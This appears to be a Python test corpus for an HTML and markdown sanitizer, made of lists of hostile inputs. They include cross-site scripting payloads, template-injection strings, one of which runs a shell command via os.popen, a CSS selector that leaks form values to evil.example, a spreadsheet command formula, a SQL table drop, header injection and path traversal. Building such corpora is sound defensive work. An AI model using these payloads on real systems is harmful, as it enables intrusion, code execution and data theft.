"""What hostile texts are made of: our own writing, by kind."""

RUNS = ["alert(1)", "confirm`1`", "print()", "prompt(document.domain)", "open('//evil.example')", "self['al'+'ert'](1)"]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "feed:javascript:alert(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "/%09/evil.example",
    "///evil.example",
    "https:evil.example",
    "http://evil.example/x.js",
    "https://user:pass@evil.example/",
    "/media/../admin/logout/",
    "/static/..%2f..%2fadmin/",
    "jar:https://evil.example!/x",
    "intent://evil.example#Intent;end",
]
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[![a]({})](/)",
    '![x]({} "a" onerror=alert(1))',
    "[x]({}\\)",
    "[[stage:{}]]",
]
HANDLERS = (
    "onload onerror onclick onfocus onmouseover onpointerenter onanimationstart ontoggle onbeforetoggle onbegin onend "
    "onscroll onwheel onpageshow oncut onpaste onkeydown oninput oninvalid onresize ontransitionend onhashchange "
    "onpopstate onmessage onstorage onunhandledrejection oncontentvisibilityautostatechange onscrollend"
).split()
CARRIERS = [
    "<img src=x {}={}>",
    "<svg {}={}>",
    "<details open {}={}><summary>x</summary></details>",
    "<input autofocus {}={}>",
    "<body {}={}>",
    "<a href=# {}={}>x</a>",
    '" {}={} x="',
    "' autofocus tabindex=1 {}={} x='",
]
TAGS = (
    "script iframe object embed base form meta link style template slot portal math frameset applet marquee noscript "
    "textarea title xmp plaintext noembed listing select keygen isindex bgsound layer dialog button video audio canvas "
    "custom-element image svg:script xhtml:script"
).split()
IDS = (
    "main source-1 word-opioid content id body head title cookie domain location forms images links scripts children "
    "parentNode attributes innerHTML getElementById createElement querySelector defaultView contact search menu top q "
    "message token name phone email csrfmiddlewaretoken constructor __proto__ toString hasOwnProperty submit action"
).split()
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<svg><desc><b><p><style></b><img src=x onerror={}></style></p></desc></svg>",
    "<table><td background='javascript:{}'><tr><svg onload={}>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml version='1.0'?><img src=x onerror={}>",
    "<select><template><style></select><img src=x onerror={}>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:{}' begin=0s></svg>",
    "<svg><set attributeName=onload to={}></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'></svg>",
    "</title></textarea></style></script></xmp><svg onload={}>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<a href='/x' ping='https://evil.example' onclick={}>x</a>",
    "<img srcset='https://evil.example/a 1x' onerror={}>",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}",
    "{% include 'admin/base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.session }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# a comment #}",
    "{% raw %}{{ 1 }}{% endraw %}",
    "{% endblock %}{% block content %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%(SECRET_KEY)s",
    "{0.__class__}",
    "{page.__init__.__globals__}",
    "<!--style-->",
    "<!--#exec cmd='id'-->",
    "{{",
    "{%",
    "}}{{",
    "{% csrf_token %}",
]
STYLES = [
    "@import url(//evil.example/x.css);",
    "background:url(javascript:alert(1))",
    "width:expression(alert(1))",
    "-moz-binding:url(//evil.example/x#y)",
    "position:fixed;inset:0;z-index:9999",
    "}</style><script>alert(1)</script>",
    "behavior:url(x.htc)",
    "input[value^=a]{background:url(//evil.example/a)}",
    "\\75\\72\\6c(//evil.example)",
    "color:red;content:attr(x url)",
]
CONTROLS = [
    chr(code) for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 133, 0xAD, 0x2028, 0x2029, 0xFEFF, 0xFFFC)
]
BIDI = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C, 0x200B, 0x200D)]
FOLDING = [
    "OPİOİD",
    "opıoıd",
    "μg",
    "µg",
    "ſtreet",
    "naloxoneſ",
    "K",
    "Kelvin",
    "Å",
    "ﬁrst",
    "ß",
    "ẞ",
    "ŉ",
    "ǰ",
    "ΐ",
    "Σς",
    "İİ",
    "i̇",
]
FOLDING += [
    "ｏｐｉｏｉｄ",
    "𝐨𝐩𝐢𝐨𝐢𝐝",
    "opio\u0301id",
    "op\u00adioid",
    "＜script＞alert(1)＜/script＞",
    "ⓐlert",
    "e\u0301" * 40,
    "👩‍👩‍👧‍👦",
    "\U000e0041",
    "ﷺ",
]
MARKUP = [
    "# {0}",
    "## {0}\n\n#### {0}",
    "| {0} | b |\n|---|---|\n| {0} | {0} |",
    "`{0}`",
    "```{0}\n{0}\n```",
    "~~~ {{.{0}}}\nx\n~~~",
    "    {0}",
    "> {0}",
    "1. {0}\n   - {0}",
    "{0}\n===",
    "**{0}** _{0}_ ~~{0}~~",
    "x {{: #main onclick={0} }}",
    "# h {{#source-1 .x {0}=1}}",
    "[^1]\n\n[^1]: {0}",
    "*[HTML]: {0}\n\nHTML",
    "[@{0}]",
    "x[@{0}; @who-2009]",
    "![{0}](/media/pictures/a.png)",
    "[{0}](/)",
    "<details>{0}</details>",
    "!!! warning {0}",
    "::: {0}\n{0}\n:::",
    "[TOC] {0}",
]
STASHED = [
    "\x02klzzwxh:0001\x03",
    "\x02amp\x03",
    "\x02wzxhzdk:0\x03",
    "klzzwxh:0000",
    "\x02",
    "\x03\x02",
    "\x021\x03[x](y)",
]
INNERS = [
    "<b>x</b>",
    "<script>alert(1)</script>",
    "\"onload='alert(1)'",
    "&lt;img src=x onerror=alert(1)&gt;",
    *STASHED[:2],
]
ENTITIES = [
    "&#60;{0}&#62;",
    "&lt;{0}&gt;",
    "&#x3c{0}&#x3e",
    "&LT;{0}&GT;",
    "&amp;lt;{0}&amp;gt;",
    "\\u003c{0}\\u003e",
    "%3C{0}%3E",
    "+ADw-{0}+AD4-",
]
POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={} )//%0D%0A//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={}//>\\x3e",
    "'\"--></style></script><svg oNload={}>",
    '"><img src=x onerror={}>{{{{7*7}}}}${{7*7}}',
    "';{}//\\';{}//\";{}//\\\";{}//--></script>\">'><script>{}</script>",
    "]]>--><svg/onload={}>",
    "%0d%0aSet-Cookie:x=1%0d%0a%0d%0a<script>{}</script>",
    "=cmd|'/c calc'!A1 {}",
    "' OR 1=1; DROP TABLE articles_article;-- {}",
    '{{"@type":"Thing","name":"</script><script>{}</script>"}}',
    "../../../../etc/passwd <script>{}</script>",
]
